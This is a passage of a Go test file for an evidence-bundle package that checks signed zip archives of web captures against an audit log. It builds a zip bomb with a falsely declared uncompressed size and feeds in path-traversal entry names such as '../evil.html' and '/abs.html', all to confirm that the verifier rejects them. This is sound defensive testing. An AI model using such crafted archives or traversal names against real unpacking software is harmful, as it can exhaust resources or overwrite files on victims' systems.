		t.Run("file twice in the zip", func(t *testing.T) {
			z := rewrite(t, f.zip, func(_ string, d []byte) ([]byte, bool) { return d, true },
				zipEntry{"captures/1/body.html", []byte("<p>the other copy</p>")})
			requireProblem(t, verify(t, z, evidence.VerifyOptions{}), "captures/1/body.html", "more than once")
		})

		t.Run("zip bomb", func(t *testing.T) {
			// A header that claims the declared size over content that
			// inflates to 64 MiB: reading stops one byte past it.
			m := manifestOf(t, f.zip)
			var declared evidence.ManifestFile
			for _, mf := range m.Files {
				if mf.Path == "captures/1/text.txt" {
					declared = mf
				}
			}
			var deflated bytes.Buffer
			{
				zw := zip.NewWriter(&deflated)
				w, err := zw.Create("x")
				require.NoError(t, err)
				_, err = w.Write(make([]byte, 64<<20))
				require.NoError(t, err)
				require.NoError(t, zw.Close())
			}
			zr, err := zip.NewReader(bytes.NewReader(deflated.Bytes()), int64(deflated.Len()))
			require.NoError(t, err)
			raw, err := zr.File[0].OpenRaw()
			require.NoError(t, err)
			bomb, err := io.ReadAll(raw)
			require.NoError(t, err)

			var buf bytes.Buffer
			zw := zip.NewWriter(&buf)
			for _, e := range readZip(t, f.zip) {
				if e.name == "captures/1/text.txt" {
					w, err := zw.CreateRaw(&zip.FileHeader{Name: e.name, Method: zip.Deflate, CRC32: zr.File[0].CRC32,
						CompressedSize64: uint64(len(bomb)), UncompressedSize64: uint64(declared.Size)})
					require.NoError(t, err)
					_, err = w.Write(bomb)
					require.NoError(t, err)
					continue
				}
				w, err := zw.Create(e.name)
				require.NoError(t, err)
				_, err = w.Write(e.data)
				require.NoError(t, err)
			}
			require.NoError(t, zw.Close())
			rep := verify(t, buf.Bytes(), evidence.VerifyOptions{})
			requireProblem(t, rep, "captures/1/text.txt", "")

			// A global cap: files past it are not read, and say so.
			rep = verify(t, f.zip, evidence.VerifyOptions{MaxTotalBytes: 200})
			requireProblem(t, rep, "captures/1/body.html", "limit of 200 bytes")
			require.Less(t, rep.Bytes, int64(200))
		})

		t.Run("not a zip", func(t *testing.T) {
			_, err := evidence.Verify(bytes.NewReader([]byte("hello")), 5, evidence.VerifyOptions{})
			require.Error(t, err)
		})
	})
}

func TestWriteRefusesLies(t *testing.T) {
	f := newFixture(t, dbtest.Backends()[0], false)
	try := func(edit func(b *evidence.Bundle)) error {
		t.Helper()
		b := *f.bundle
		b.Captures = append([]evidence.Capture(nil), b.Captures...)
		for i := range b.Captures {
			b.Captures[i].Files = append([]evidence.File(nil), b.Captures[i].Files...)
		}
		b.Audit = append([]evidence.AuditRecord(nil), b.Audit...)
		edit(&b)
		return evidence.Write(io.Discard, &b)
	}
	require.NoError(t, try(func(*evidence.Bundle) {}))

	err := try(func(b *evidence.Bundle) {
		fl := &b.Captures[0].Files[0]
		fl.Open = func() (io.ReadCloser, error) {
			return io.NopCloser(strings.NewReader(strings.Replace(fakePage, "Test", "Tost", 1))), nil
		}
	})
	require.ErrorIs(t, err, evidence.ErrMismatch)
	require.Contains(t, err.Error(), "captures/1/body.html")

	err = try(func(b *evidence.Bundle) {
		fl := &b.Captures[0].Files[0]
		fl.Open = func() (io.ReadCloser, error) { return io.NopCloser(strings.NewReader(fakePage + "more")), nil }
	})
	require.ErrorIs(t, err, evidence.ErrMismatch)

	err = try(func(b *evidence.Bundle) {
		fl := &b.Captures[0].Files[1]
		fl.Open = func() (io.ReadCloser, error) { return nil, errors.New("blob: tampered or damaged") }
	})
	require.ErrorContains(t, err, "tampered")

	// A file whose hash no audit entry records.
	err = try(func(b *evidence.Bundle) {
		b.Captures[2].Files = append(b.Captures[2].Files, file("captures/3/screenshot.png", evidence.KindScreenshot, "image/png", []byte("png")))
	})
	require.ErrorContains(t, err, "captures/3/screenshot.png")
	require.ErrorContains(t, err, "audit entry")
	// The same hash under another kind is not covered either.
	err = try(func(b *evidence.Bundle) { b.Captures[2].Files[1].Kind = evidence.KindBody })
	require.ErrorContains(t, err, "records body=")
	// Without the capture's audit entry.
	err = try(func(b *evidence.Bundle) {
		var keep []evidence.AuditRecord
		for _, r := range b.Audit {
			if r.Entry.ObjectID != "3" {
				keep = append(keep, r)
			}
		}
		b.Audit = keep
	})
	require.ErrorContains(t, err, "captures/3/body.html")

	for _, name := range []string{"../evil.html", "/abs.html", "captures/a b.html", "captures//x", "manifest.json", "report.html", `captures\x`} {
		err = try(func(b *evidence.Bundle) { b.Captures[0].Files[0].Name = name })
		require.Error(t, err, name)
	}
	err = try(func(b *evidence.Bundle) { b.Captures[2].Files[0].Name = "captures/1/body.html" })
	require.ErrorContains(t, err, "used twice")
	err = try(func(b *evidence.Bundle) { b.Captures[2].Files[0].Name = "captures/1" })
	require.ErrorContains(t, err, "also the folder")

	// Audit records must be proven by the checkpoint, under the key.
	err = try(func(b *evidence.Bundle) {
		e := b.Audit[0].Entry
		e.Detail += " edited"
		b.Audit[0].Entry = e
	})
	require.ErrorIs(t, err, audit.ErrNotIncluded)
	err = try(func(b *evidence.Bundle) { b.Audit[0].Entry.LeafIndex = nil })
	require.ErrorContains(t, err, "not integrated")
	_, vkey := otherKey(t)
	err = try(func(b *evidence.Bundle) { b.VerifierKey = vkey })
	require.ErrorContains(t, err, "checkpoint")
	err = try(func(b *evidence.Bundle) { b.Case.Ref = "" })
	require.Error(t, err)
}

func TestCaptureDetail(t *testing.T) {
	a, b := strings.Repeat("a1", 32), strings.Repeat("0f", 32)
	d := evidence.CaptureDetail(evidence.FileHash{Kind: "body", SHA256: a}, evidence.FileHash{Kind: "image", SHA256: b})
	require.Equal(t, "body="+a+" image="+b, d)
	require.Equal(t, []evidence.FileHash{{Kind: "body", SHA256: a}, {Kind: "image", SHA256: b}},
		evidence.CaptureHashes("item=12 status=200 "+d+" body=ABC image="+strings.ToUpper(b)+" =x junk"))
	require.Empty(t, evidence.CaptureHashes(""))
}

func TestProveNeedsIntegratedEntries(t *testing.T) {
	s := dbtest.NewStack(t, dbtest.Backends()[0])
	ctx := context.Background()
	require.NoError(t, s.Store.Audit(ctx, undox.System, "capture", "capture", "1", "body="+strings.Repeat("0", 64)))
	es, err := s.Store.AuditEntries(ctx, "capture", "1")
	require.NoError(t, err)
	_, err = evidence.Prove(ctx, s.Log, 1, es)
	require.ErrorContains(t, err, "not integrated")
	_, err = s.Log.Integrate(ctx, 0)
	require.NoError(t, err)
	es, err = s.Store.AuditEntries(ctx, "capture", "1")
	require.NoError(t, err)
	recs, err := evidence.Prove(ctx, s.Log, 1, es)
	require.NoError(t, err)
	require.Len(t, recs, 1)
}
